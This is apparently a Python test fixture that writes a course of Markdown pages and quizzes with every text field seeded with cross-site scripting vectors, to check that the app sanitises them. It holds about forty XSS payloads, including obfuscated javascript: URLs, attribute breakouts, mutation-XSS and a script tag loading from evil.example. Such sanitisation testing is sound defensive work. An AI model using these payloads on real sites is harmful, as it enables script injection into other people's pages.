"""A course whose every text holds script vectors: titles, Markdown, questions, answers, feedback."""

from __future__ import annotations

from pathlib import Path

# Each one would run script (or leave the app's origin) if it reached the page unsanitised.
VECTORS = [
    "<script>alert('script')</script>",
    "<img src=pixel.png onerror=alert('img-onerror')>",
    '<img src="pixel.png" onerror="alert(\'img-quoted\')" onload="alert(\'img-onload\')">',
    "<svg onload=alert('svg-onload')>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<a href=\"javascript:alert('a-href')\">link a</a>",
    "<a href=\"jav&#x09;ascript:alert('a-tab')\">link b</a>",
    "<a href=\"&#106;avascript:alert('a-entity')\">link c</a>",
    "<a href=\"data:text/html,<script>alert('a-data')</script>\">link d</a>",
    "[markdown link](javascript:alert('md-link'))",
    "[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<embed src=\"javascript:alert('embed')\">",
    "<details open ontoggle=alert('details')>x</details>",
    "<input autofocus onfocus=alert('input')>",
    "<body onload=alert('body')>",
    "<video><source onerror=alert('video')></video>",
    "<audio src=pixel.png onerror=alert('audio')></audio>",
    "<marquee onstart=alert('marquee')>m</marquee>",
    "<form action=\"javascript:alert('form')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('formaction')\">b</button>",
    "<div style=\"background:url(javascript:alert('style'))\">styled</div>",
    "<style>*{background:url(\"javascript:alert('style-tag')\")}</style>",
    "<link rel=stylesheet href=\"javascript:alert('link')\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\">",
    "<base href=\"javascript:alert('base')//\">",
    "<template><img src=pixel.png onerror=alert('template')></template>",
    "\"><script>alert('breakout')</script>",
    "'><img src=pixel.png onerror=alert('breakout2')>",
    "<span class=\"flash error\" id=\"main\">fake app message</span>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<a href=\"vbscript:msgbox('vb')\">link e</a>",
    "<textarea autofocus onfocus=alert('textarea')>x</textarea>",
    "<div onclick=\"alert('click')\" onmouseover=\"alert('hover')\">hover me</div>",
    "<!-- <script>alert('comment')</script> -->comment",
    "<noscript><p title=\"</noscript><img src=pixel.png onerror=alert('noscript')>\">",
    "<math><mtext><table><mglyph><style><img src=pixel.png onerror=alert('mxss')>",
]
# one line each: titles, answers and feedback are single lines
LINE = "<img src=pixel.png onerror=alert('line')><script>alert('line')</script>"


def _yaml(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def write_hostile_course(root: Path, pixel: bytes) -> None:
    """Write the hostile course into root (which must not exist yet)."""
    module = root / "01-hostile"
    module.mkdir(parents=True)
    (module / "pixel.png").write_bytes(pixel)
    (root / "pixel.png").write_bytes(pixel)
    body = "\n\n".join(VECTORS)
    (root / "course.md").write_text(f"---\ntitle: {_yaml('Hostile ' + LINE)}\n---\nWelcome {LINE}\n\n{body}\n")
    (module / "module.md").write_text(
        f"---\ntitle: {_yaml('Module ' + LINE)}\nsummary: {_yaml('Summary ' + LINE)}\n---\nIntro\n\n{body}\n"
    )
    (module / "01-text.md").write_text(f"---\ntitle: {_yaml('Text ' + LINE)}\n---\n# Heading {LINE}\n\n{body}\n")
    questions = "\n\n".join(
        f"<quiz>\nQuestion {n}: {vector}\n- [x] Right {n} {LINE}\n> Feedback right {vector}\n"
        f"- [ ] Wrong {n} {vector}\n> Feedback wrong {LINE}\n\nExplanation {n} {vector}\n</quiz>"
        for n, vector in enumerate(VECTORS, 1)
    )
    gap = f"<quiz>\nGap {LINE} [[yes]] {LINE}\n---\nExplained {LINE}\n</quiz>"
    # after_submit: a failed attempt shows every correct answer and explanation, so all of them are checked
    (module / "02-quiz.md").write_text(
        f"---\ntitle: {_yaml('Quiz ' + LINE)}\nquiz:\n  show_correct: after_submit\n---\nText {LINE}\n\n{questions}\n\n{gap}\n"
    )
